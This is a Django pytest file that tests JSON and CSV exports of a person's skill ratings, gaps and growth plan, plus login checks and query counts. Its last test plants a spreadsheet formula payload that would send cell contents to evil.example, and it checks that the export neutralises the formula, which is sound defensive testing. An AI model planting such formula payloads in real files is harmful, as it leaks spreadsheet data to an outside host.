"""Export of a person's own map: ratings with evidence, gaps and growth plan, as JSON and
CSV, computed by the same gap arithmetic as My map."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from assessments.gaps import gaps_for
from assessments.services import action_add, focus_skill_add
from tests.helpers import submit

pytestmark = pytest.mark.django_db


@pytest.fixture
def rated(erin, max_):
    submit(erin, erin, "self", {"system-design": 4, "mentoring": 2, "hiring": 1})
    submit(max_, erin, "manager", {"system-design": 2})
    focus = focus_skill_add(by=erin, person=erin, skill_key="system-design", target_level=4)
    action_add(by=erin, focus=focus, text="Lead the billing design review", due_date="2026-12-01")
    return erin


def test_my_map_links_both_downloads(client, rated):
    client.force_login(rated)
    html = client.get(reverse("assessments:my_map")).content.decode()
    assert f'href="{reverse("assessments:my_map_csv")}"' in html
    assert f'href="{reverse("assessments:my_map_json")}"' in html


def test_the_json_export_holds_the_gaps_ratings_and_plan(client, rated):
    client.force_login(rated)

    response = client.get(reverse("assessments:my_map_json"))

    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="careermap-erin.json"'
    data = json.loads(response.content)
    gaps = gaps_for(person=rated)
    assert data["person"] == {
        "username": "erin",
        "name": rated.get_full_name(),
        "role": "senior-engineer",
        "target_role": "staff-engineer",
    }
    assert data["gaps"]["role"] == "staff-engineer"
    assert data["gaps"]["readiness"] == gaps.readiness
    assert [(s["skill"], s["gap"]) for s in data["gaps"]["skills"]] == [
        (r.skill.key, r.gap) for r in gaps.rows
    ]
    design = next(s for s in data["gaps"]["skills"] if s["skill"] == "system-design")
    assert (design["self"], design["manager"], design["current"]) == (4, 2, 2)
    assert {(r["skill"], r["kind"], r["level"], r["by"]) for r in data["ratings"]} == {
        ("system-design", "self", 4, "erin"),
        ("system-design", "manager", 2, "max"),
        ("mentoring", "self", 2, "erin"),
        ("hiring", "self", 1, "erin"),
    }
    assert data["growth_plan"]["focus"] == [
        {
            "skill": "system-design",
            "target_level": 4,
            "current": 2,
            "actions": [
                {"text": "Lead the billing design review", "due_date": "2026-12-01", "done": False}
            ],
        }
    ]


def test_the_csv_export_has_a_row_per_expected_or_rated_skill(client, rated):
    client.force_login(rated)

    response = client.get(reverse("assessments:my_map_csv"))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    gaps = gaps_for(person=rated)
    # The gap rows in order, then "hiring": rated, but not expected by Staff Engineer.
    assert [r["skill"] for r in rows] == [r.skill.key for r in gaps.rows] + ["hiring"]
    design = next(r for r in rows if r["skill"] == "system-design")
    assert design["self"] == "4"
    assert design["manager"] == "2"
    assert design["current"] == "2"
    assert design["focus_target_level"] == "4"
    assert design["actions"] == "Lead the billing design review (open, due 2026-12-01)"
    hiring = rows[-1]
    assert (hiring["expected"], hiring["self"], hiring["gap"]) == ("", "1", "")


def test_export_needs_a_login(client):
    response = client.get(reverse("assessments:my_map_json"))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


@pytest.mark.parametrize("name", ["my_map_json", "my_map_csv"])
def test_export_queries_do_not_grow_with_history(client, rated, max_, name):
    client.force_login(rated)
    client.get(reverse(f"assessments:{name}"))  # warm the session
    with CaptureQueriesContext(connection) as before:
        client.get(reverse(f"assessments:{name}"))
    for _ in range(3):
        submit(rated, rated, "self", {"system-design": 3, "explaining-tech": 2})
        submit(max_, rated, "manager", {"mentoring": 3})
    with CaptureQueriesContext(connection) as after:
        client.get(reverse(f"assessments:{name}"))
    assert len(after) == len(before)


def test_evidence_that_looks_like_a_formula_stays_text_in_the_csv(client, erin, max_):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"proof")'
    from assessments.services import assessment_start, assessment_submit

    draft = assessment_start(
        by=max_,
        person=erin,
        kind="manager",
        ratings=[{"skill": "system-design", "level": 2, "evidence": evil}],
    )
    assessment_submit(by=max_, assessment=draft)
    client.force_login(erin)

    rows = list(
        csv.DictReader(io.StringIO(client.get(reverse("assessments:my_map_csv")).content.decode()))
    )

    design = next(r for r in rows if r["skill"] == "system-design")
    assert design["manager_evidence"] == "'" + evil
